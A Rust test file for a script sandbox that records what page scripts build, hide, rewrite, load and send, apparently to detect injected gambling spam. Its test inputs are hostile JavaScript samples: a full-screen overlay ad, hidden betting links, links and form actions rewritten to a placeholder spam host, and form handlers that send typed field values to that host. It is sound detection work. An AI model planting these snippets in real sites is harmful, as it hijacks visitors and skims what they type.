//! What is told of what scripts build, hide, load and send.

use canhcong::sandbox::{Job, Sandbox, Source, Trigger};

use super::{PAGE, job, page, run, said, sandbox, targets};

#[test]
fn an_overlay_banner() {
    let ran = run(
        "document.addEventListener('DOMContentLoaded',function(){var o=document.createElement('div');\
         o.style.cssText='position:fixed;inset:0;z-index:99999';\
         o.innerHTML='<a href=\"https://bet88.example/\" target=\"_blank\"><img src=\"https://img.example/b.gif\"></a>';\
         document.body.appendChild(o)})",
    );
    let tags: Vec<&str> = ran.added.iter().map(|added| added.tag.as_str()).collect();
    assert_eq!(tags, ["a", "img"]);
    assert_eq!(ran.built.len(), 1);
    assert!(
        ran.built[0]
            .markup
            .starts_with("<div style=\"position:fixed;inset:0;z-index:99999\"><a href")
    );
    assert_eq!(ran.built[0].source, Source::Script(0));
    assert_eq!(ran.built[0].under, ran.added[0].under);
}

#[test]
fn a_list_of_links_built_and_hidden() {
    let ran = run("var c=document.createElement('div');c.style.display='none';\
         ['nhà cái','cá cược'].forEach(function(t,n){var a=document.createElement('a');\
         a.href='https://bet88.example/'+n;a.textContent=t;c.appendChild(a)});document.body.appendChild(c);\
         document.getElementById('menu').style.left='-9999px';\
         document.getElementById('menu').style.position='absolute';\
         document.querySelector('p').style.display='block';");
    assert_eq!(
        ran.built[0].markup,
        "<div style=\"display: none;\"><a href=\"https://bet88.example/0\">nhà cái</a>\
         <a href=\"https://bet88.example/1\">cá cược</a></div>"
    );
    let how: Vec<&str> = ran.hidden.iter().map(|hidden| hidden.how.as_str()).collect();
    assert_eq!(how, ["left:-9999px", "display:none"]);
    let menu = job("").elements.iter().position(|element| element.attribute("id") == Some("menu"));
    assert_eq!(ran.hidden[0].element, menu.and_then(|place| u32::try_from(place).ok()));
}

#[test]
fn what_the_page_came_with_is_no_news() {
    let ran = run(
        "document.body.innerHTML+='<p>x</p>';document.body.appendChild(document.getElementById('menu'))",
    );
    assert!(ran.added.is_empty(), "{:?}", ran.added);
    assert_eq!(ran.built.len(), 1);
    let page = page("").replace("id=text", "id=text style='display:none'");
    let ran = sandbox(1).run(&Job::of_markup(PAGE, &page, &[]));
    assert!(ran.hidden.is_empty() && ran.built.is_empty());
}

#[test]
fn addresses_given_to_what_was_there() {
    let ran = run(
        "document.querySelectorAll('a').forEach(function(a){a.href='https://bet88.example/'});\
         document.forms[0].action='//bet88.example/f'",
    );
    let values: Vec<&str> = ran.rewritten.iter().map(|fact| fact.value.as_str()).collect();
    assert_eq!(values, ["https://bet88.example/", "//bet88.example/f"]);
    assert_eq!(ran.rewritten[1].tag, "form");
}

#[test]
fn requests_are_told_and_never_made() {
    let ran = run(
        "fetch('/a');navigator.sendBeacon('https://bet88.example/b','x');new Image().src='https://bet88.example/c.gif';\
         var x=new XMLHttpRequest;x.open('POST','https://bet88.example/d');x.onerror=function(){alert('error '+x.status)};x.send('cc');\
         new WebSocket('wss://bet88.example/e');new EventSource('/f');new Worker('/g.js')",
    );
    let sent: Vec<(&str, &str)> =
        ran.sent.iter().map(|sent| (sent.kind.as_str(), sent.target.as_str())).collect();
    assert_eq!(
        sent,
        [
            ("fetch", "http://portal.test/a"),
            ("beacon", "https://bet88.example/b"),
            ("image", "https://bet88.example/c.gif"),
            ("xhr", "https://bet88.example/d"),
            ("socket", "wss://bet88.example/e"),
            ("events", "http://portal.test/f"),
        ]
    );
    assert_eq!(ran.loads[0].kind, "worker");
    assert_eq!(said(&ran), ["error 0"]);
}

#[test]
fn what_is_typed_into_a_form_is_sent_elsewhere() {
    let ran = run(
        "document.forms[0].q.onblur=function(){new Image().src='https://bet88.example/k?'+this.value};\
         document.forms[0].onsubmit=function(){navigator.sendBeacon('https://bet88.example/s');location='/tim?q=x'}",
    );
    let sent: Vec<&str> = ran.sent.iter().map(|sent| sent.target.as_str()).collect();
    assert_eq!(sent, ["https://bet88.example/k?x", "https://bet88.example/s"]);
    assert_eq!(ran.sent[0].cause.trigger, Trigger::Form);
    assert!(ran.navigations.is_empty(), "where a form leads is the visitor's choice");
}

#[test]
fn ways_out_are_told_that_wait_for_an_answer() {
    let ran = run("fetch('https://count.example/x').catch(function(){}).then(function(){\
         location='https://bet88.example/'})");
    assert_eq!(targets(&ran), ["https://bet88.example/"]);
}

#[test]
fn files_that_scripts_pull_in_are_run_where_they_are_known() {
    let bodies = [
        ("http://portal.test/js/lib.js".to_owned(), "function go(u){location=u}".to_owned()),
        ("http://portal.test/js/more.js".to_owned(), "go('https://bet88.example/')".to_owned()),
    ];
    let page = "<head><script src=/js/lib.js></script></head><body><script>\
        var s=document.createElement('script');s.src='/js/more.js';s.onload=function(){alert('loaded')};\
        document.head.appendChild(s);document.write('<script src=\"https://cdn.example/x.js\" onerror=\"alert(1)\"><\\/script>')\
        </script>";
    let ran = sandbox(1).run(&Job::of_markup(PAGE, page, &bodies));
    assert_eq!(ran.navigations[0].target, "https://bet88.example/");
    // The library's code, called by what the second script pulled in.
    assert_eq!(ran.navigations[0].cause.source, Source::Script(0));
    assert_eq!(ran.navigations[0].cause.asked_by, Some(Source::Script(1)));
    let loads: Vec<&str> = ran.loads.iter().map(|load| load.target.as_str()).collect();
    assert_eq!(loads, ["http://portal.test/js/more.js", "https://cdn.example/x.js"]);
    // A file of others neither comes nor fails: what a page does without it is not told of it.
    assert_eq!(said(&ran), ["loaded"]);
}

#[test]
fn errors_end_their_script_only() {
    let page = "<script>undefinedThing()</script><script>syntax error here</script>\
        <script>throw {get message(){throw 1}}</script><script>alert('on')</script>";
    let ran = sandbox(1).run(&Job::of_markup(PAGE, page, &[]));
    assert_eq!(ran.end.errors, 3);
    assert_eq!(said(&ran), ["on"]);
    assert_eq!(ran.cut, None);
}

#[test]
fn children_are_used_again_and_know_nothing_of_the_page_before() {
    let sandbox = sandbox(1);
    for n in 0..20 {
        let ran = sandbox.run(&job("alert(typeof leak+[].leak);leak=1;Array.prototype.leak=2;localStorage.x=1;document.cookie='a=b'"));
        assert_eq!(said(&ran), ["undefinedundefined"], "page {n}");
    }
}

#[test]
fn many_threads_share_few_children() {
    let sandbox: Sandbox = sandbox(2);
    std::thread::scope(|scope| {
        for n in 0..6 {
            let sandbox = &sandbox;
            scope.spawn(move || {
                let ran = sandbox.run(&job(&format!("alert({n})")));
                assert_eq!(said(&ran), [n.to_string()]);
            });
        }
    });
}
